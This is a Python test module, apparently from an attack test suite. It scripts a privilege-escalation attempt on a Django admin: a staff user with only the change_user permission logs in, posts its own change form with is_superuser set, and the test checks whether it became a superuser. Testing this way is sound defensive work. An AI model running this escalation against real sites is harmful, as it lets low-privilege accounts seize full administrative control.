"""Somebody who may sign in, and has no permission but `auth.change_user`, makes himself a superuser."""

import http.cookiejar
import urllib.error
import urllib.parse
import urllib.request
from contextlib import suppress

from tests.attacks.attack import Outcome, Target

_PATIENCE_SECONDS = 60
_PERSON = """
from django.contrib.auth.models import Permission, User
person = User.objects.create_user("eve", password="a-longer-secret", is_staff=True)
person.user_permissions.add(Permission.objects.get(codename="change_user"))
print("person", person.pk)
"""
_RIGHTS = "from django.contrib.auth.models import User; print(User.objects.get(username='eve').is_superuser)"


def attack(target: Target) -> Outcome:
    made = target.node.run("shell", "--no-imports", "-c", _PERSON)
    key = made.stdout.split()[-1]
    browser, cookies = _browser()
    base = f"http://127.0.0.1:{target.node.port}/admin"
    form = {"username": "eve", "is_active": "on", "is_staff": "on", "is_superuser": "on"}
    joined = {"date_joined_0": "2024-01-01", "date_joined_1": "00:00:00"}
    _send(browser, cookies, f"{base}/login/", {"username": "eve", "password": "a-longer-secret"})
    status = _send(browser, cookies, f"{base}/auth/user/{key}/change/", form | joined)
    rights = target.node.run("shell", "--no-imports", "-c", _RIGHTS)
    is_superuser = rights.stdout.split()[-1] == "True"
    return Outcome(is_superuser, f"{'a' if is_superuser else 'no'} superuser; the form was answered {status}")


def _browser() -> tuple[urllib.request.OpenerDirector, http.cookiejar.CookieJar]:
    cookies = http.cookiejar.CookieJar()
    return urllib.request.build_opener(urllib.request.HTTPCookieProcessor(cookies)), cookies


def _send(
    browser: urllib.request.OpenerDirector, cookies: http.cookiejar.CookieJar, url: str, form: dict[str, str]
) -> int:
    """Open a page, send its form, and return the status of the answer."""
    with suppress(urllib.error.HTTPError):
        browser.open(url, timeout=_PATIENCE_SECONDS).close()
    token = next(str(cookie.value) for cookie in cookies if "csrf" in cookie.name)
    data = urllib.parse.urlencode(form | {"csrfmiddlewaretoken": token}).encode()
    try:
        with browser.open(url, data, timeout=_PATIENCE_SECONDS) as page:
            return int(page.status)
    except urllib.error.HTTPError as error:
        return error.code
